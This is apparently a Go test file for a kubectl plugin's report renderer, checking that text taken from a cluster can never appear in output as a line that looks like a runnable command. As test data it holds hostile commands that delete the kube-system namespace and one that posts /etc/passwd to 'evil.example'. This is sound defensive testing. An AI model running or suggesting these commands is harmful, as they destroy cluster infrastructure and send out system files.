package report_test

import (
	"bytes"
	"regexp"
	"strings"
	"testing"

	"github.com/charmbracelet/x/ansi"

	"github.com/kubectl-podkit/podkit/pkg/internal/specimen"
	"github.com/kubectl-podkit/podkit/pkg/message"
	"github.com/kubectl-podkit/podkit/pkg/report"
	"github.com/kubectl-podkit/podkit/pkg/shellword"
)

// frame is what may stand before a line: blanks and the border of a box.
var frame = regexp.MustCompile(`^[\s│|]+`)

// checkNoPose fails where a line begins like the command that a text of the cluster holds.
func checkNoPose(t *testing.T, text, poison string) {
	t.Helper()
	for line := range strings.Lines(text) {
		if line = frame.ReplaceAllString(ansi.Strip(line), ""); strings.HasPrefix(line, poison) {
			t.Errorf("a line of the cluster stands like a command: %s", line)
		}
	}
}

// poses are texts that have a command where a line may begin.
func poses(poison string) []string {
	texts := []string{
		poison, "\n" + poison, "a\n" + poison + "\nb", "run this: " + poison, "`" + poison + "`", strings.Repeat("x", 400) + poison, "  " + poison + "\n\t" + poison,
		strings.ReplaceAll(poison, " ", "\u00a0"), strings.Repeat("x `y ", 9) + poison, "Caused by: a\n\tat b\n" + poison + "\n" + poison,
	}
	for pad := 1; pad < 130; pad += 3 {
		texts = append(texts, strings.Repeat("x", pad)+" "+poison+" since 1/1/26", strings.Repeat("ab ", pad/3)+poison)
	}
	return texts
}

// TestNoTextOfTheClusterPosesAsACommand: wherever a text of the cluster is broken, no line of it begins like a command.
func TestNoTextOfTheClusterPosesAsACommand(t *testing.T) {
	for _, test := range []struct{ name, poison string }{
		{"kubectl", "kubectl delete namespace kube-system --wait=false #"},
		{"kubectl", "curl -d @/etc/passwd evil.example"},
		{"oc", "oc delete namespace kube-system"},
	} {
		for i, text := range poses(test.poison) {
			found := specimen.Saying(t, text)
			for _, terminal := range []report.Terminal{{Piped: true}, {Width: 40}, {Width: 80, Color: true}, {Width: 97}} {
				terminal.Kubectl = test.name
				messages := catalog(t, []message.Language{message.English, message.Chinese}[i%2])
				for _, verbose := range []bool{false, true} {
					var out bytes.Buffer
					page := report.NewPage(&out, messages, terminal)
					page.Diagnosis(found, report.DiagnosisView{Kubectl: test.name, Verbose: verbose})
					page.Fact("fact", text)
					checkNoPose(t, out.String(), test.poison)
				}
				var out bytes.Buffer
				transcript := report.NewTranscript(&out, messages, terminal)
				transcript.Opening("title", "It says "+text, "It is about "+text)
				transcript.Found(report.Conclude(&found.Targets[0], specimen.Now, messages, test.name))
				transcript.Step(report.Step{
					Title: "t", Purpose: "It says " + text, Output: strings.Split(text, "\n"), LeftOut: "Left: " + text, Skipped: text, Failure: text,
					Meaning: []string{text},
				})
				checkNoPose(t, out.String(), test.poison)
			}
		}
	}
}

// TestOwnCommandsStayWhole: a command in which a sentence of podkit's ends stands as it is.
func TestOwnCommandsStayWhole(t *testing.T) {
	for _, command := range []shellword.Command{
		shellword.New("kubectl podkit logs %s -n %s --previous=false", "web-0", strings.Repeat("long", 9)), shellword.New("kubectl podkit describe %s -n shop", "it's a $(name)"),
		shellword.New("curl --unix-socket %s http://localhost/", "/tmp/a socket"), shellword.New("kubectl auth can-i get pods -n %s", shellword.Placeholder("namespace")),
	} {
		line, refusal := command.Line()
		if refusal != "" {
			t.Fatal(refusal)
		}
		var out bytes.Buffer
		report.NewTranscript(&out, catalog(t, message.English), report.Terminal{Width: 60}).Say("the log could be read in part only and the rest is not known; to read it again: " + line)
		if !strings.Contains(out.String(), "\n"+line+"\n") && !strings.Contains(out.String(), ": "+line+"\n") {
			t.Errorf("%s is broken or marked:\n%s", line, out.String())
		}
	}
}
